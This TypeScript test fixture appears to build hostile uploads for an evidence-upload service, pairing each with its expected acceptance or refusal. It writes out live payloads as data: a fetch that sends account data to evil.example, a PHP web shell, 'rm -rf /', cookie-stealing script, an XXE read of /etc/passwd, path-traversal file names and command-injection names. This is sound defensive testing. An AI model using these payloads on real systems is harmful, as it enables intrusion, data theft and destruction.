import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { type Hostile, refused, taken } from './hostile.ts';
import { images, zips } from './hostile-bombs.ts';
import { makeGif, makePng, PDF } from '../../../testing/images.ts';
import { makeZip } from './zips.ts';

const STRANGE = refused(/这种文件不能作为佐证材料/);
const PAYLOADS: Readonly<Record<string, Buffer>> = {
  html: Buffer.from('<!doctype html><script>alert(document.cookie)</script>'),
  php: Buffer.from('<?php system($_GET["c"]); ?>'),
  shell: Buffer.from('#!/bin/sh\nrm -rf /\n'),
  javascript: Buffer.from('fetch("/api/accounts").then(r=>r.text()).then(t=>location="//evil.example/?"+t)'),
};
const PROGRAMS: Readonly<Record<string, Buffer>> = {
  windows: Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), randomBytes(500)]),
  linux: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), randomBytes(500)]),
  java: Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), randomBytes(500)]),
  rar: Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'), randomBytes(500)]),
  sevenZip: Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), randomBytes(500)]),
  gzip: Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), randomBytes(500)]),
  sqlite: Buffer.concat([Buffer.from('SQLite format 3\0', 'latin1'), Buffer.alloc(500, 1)]),
  noise: Buffer.concat([Buffer.from([0, 1, 2, 3]), Buffer.alloc(500, 7)]),
};
const EXTENSIONS = ['pdf', 'png', 'jpg', 'gif', 'docx', 'xlsx', 'doc', 'zip', 'mp4'];

function wrongMagic(): Hostile[] {
  const all = { ...PAYLOADS, ...PROGRAMS };
  const lies = EXTENSIONS.flatMap((extension) =>
    Object.entries(all).map(([kind, content]) => ({
      ...{ what: `${kind} as ${extension}`, name: `年报.${extension}`, content, expected: STRANGE },
    })),
  );
  const programs = Object.entries(PROGRAMS).map(([kind, content]) => ({
    ...{ what: `${kind} as text`, name: '说明.txt', content, expected: STRANGE },
  }));
  return [...lies, ...programs];
}

/** Texts that would be dangerous in a browser are only texts: never shown there. */
const texts = (): Hostile[] =>
  Object.entries(PAYLOADS).map(([kind, content]) => ({
    ...{ what: `${kind} as text`, name: '说明.txt', content, expected: taken('说明.txt', 'text/plain') },
  }));

const WRONG_ENDINGS = ['html', 'svg', 'exe', 'php', 'pdf', 'js', 'hta', 'lnk', 'scr', 'docm', 'txt', 'bat'];

const wrongEndings = (): Hostile[] =>
  WRONG_ENDINGS.map((extension) => ({
    what: `a picture as ${extension}`,
    name: `照片.${extension}`,
    content: makePng({ width: 4, height: 4 }),
    expected: taken(`照片.${extension}.png`, 'image/png'),
  }));

function polyglots(jpeg: Buffer): Hostile[] {
  const picture = makePng({ width: 8, height: 8 });
  return Object.entries(PAYLOADS).flatMap(([kind, payload]): Hostile[] => [
    {
      ...{ what: `PNG, then ${kind}`, name: 'a.png', content: Buffer.concat([picture, payload]) },
      expected: taken('a.png', 'image/png'),
    },
    {
      what: `PNG with ${kind} in its comment`,
      name: 'b.png',
      content: makePng({ width: 8, height: 8, comment: payload.toString() }),
      expected: taken('b.png', 'image/png'),
    },
    {
      ...{ what: `GIF with ${kind} in its comment`, name: 'c.gif', content: makeGif(1, 1, payload.toString()) },
      expected: taken('c.gif', 'image/gif'),
    },
    {
      ...{ what: `JPEG, then ${kind}`, name: 'd.jpg', content: Buffer.concat([jpeg, payload]) },
      expected: taken('d.jpg', 'image/jpeg'),
    },
    {
      ...{ what: `PDF, then ${kind}`, name: 'e.pdf', content: Buffer.concat([PDF, payload]) },
      expected: taken('e.pdf', 'application/pdf'),
    },
    { what: `${kind}, then PDF`, name: 'f.pdf', content: Buffer.concat([payload, PDF]), expected: STRANGE },
    { what: `${kind}, then PNG`, name: 'g.png', content: Buffer.concat([payload, picture]), expected: STRANGE },
    {
      what: `PNG, then a ZIP with ${kind}`,
      name: 'h.png',
      content: Buffer.concat([picture, makeZip([{ name: 'x', data: payload }])]),
      expected: taken('h.png', 'image/png'),
    },
  ]);
}

const SVGS = [
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="//evil.example"/></foreignObject></svg>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="//evil.example/x.png"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>点我</text></a></svg>',
];

const svgs = (): Hostile[] =>
  SVGS.flatMap((text, n) =>
    ['svg', 'svgz', 'png', 'jpg', 'html', 'xml', 'xhtml'].map((extension) => ({
      what: `SVG ${n} as ${extension}`,
      name: `图.${extension}`,
      content: Buffer.from(text),
      expected: STRANGE,
    })),
  );

const NAMES = [
  ...['../../etc/passwd.pdf', '..\\..\\windows\\win.pdf', '/etc/cron.d/x.pdf', 'C:\\x.pdf', '....//....//x.pdf'],
  ...['%2e%2e%2fx.pdf', '..%2f..%2fx.pdf', 'a/../../b.pdf', '~/.ssh/x.pdf', '\\\\host\\share\\x.pdf'],
  ...['CON.pdf', 'nul.pdf', 'COM1.pdf', 'lpt9.x.pdf', 'aux', 'PRN.', 'con .pdf', 'NUL.txt.pdf'],
  ...[
    '\u202Efdp.exe',
    'a\u202Ecod\u202C.pdf',
    'a\u200B.pdf',
    '\uFEFFx.pdf',
    'a\u2066b.pdf',
    'a\u0085b.pdf',
    'a\u2028b.pdf',
  ],
  ...['a\r\nSet-Cookie: x=1.pdf', 'a\0b.pdf', 'a\x1b[31m.pdf', 'a\tb.pdf', 'a\x7fb.pdf'],
  ...['.pdf', '...pdf', '.htaccess', 'a.', ' .pdf ', ' ', '. .', 'a.pdf.'],
  ...[
    '"><img src=x onerror=alert(1)>.pdf',
    "';DROP TABLE evidence;--.pdf",
    '$(reboot).pdf',
    '`id`.pdf',
    '|x.pdf',
    'a;b.pdf',
  ],
  ...[
    '长'.repeat(300) + '.pdf',
    'x'.repeat(5_000) + '.pdf',
    'Z\u0351'.repeat(1) + '\u0351'.repeat(500) + '.pdf',
    '😀'.repeat(200) + '.pdf',
  ],
  ...['a.' + 'b'.repeat(300), '\ud800.pdf', 'a.pdf::$DATA', 'a.pdf:stream', '-rf.pdf', '--help.pdf'],
];

const names = (): Hostile[] =>
  NAMES.map((name) => ({
    what: `the name ${JSON.stringify(name.slice(0, 30))}`,
    ...{ name, content: PDF, expected: taken('.pdf', 'application/pdf') },
  }));

const empty = (): Hostile[] =>
  ['空.pdf', '空.png', '空.txt', '空.zip', '空'].map((name) => ({
    ...{ what: 'nothing', name, content: Buffer.alloc(0), expected: { status: 400 as const, says: /空文件/ } },
  }));

/** Every file that is small enough to be held; those too large are made while they are sent. */
export async function hostileFiles(): Promise<Hostile[]> {
  const jpeg = await sharp({ create: { width: 40, height: 30, channels: 3, background: 'teal' } })
    .jpeg()
    .toBuffer();
  return [
    ...wrongMagic(),
    ...texts(),
    ...wrongEndings(),
    ...polyglots(jpeg),
    ...svgs(),
    ...names(),
    ...zips(),
    ...images(),
    ...empty(),
  ];
}
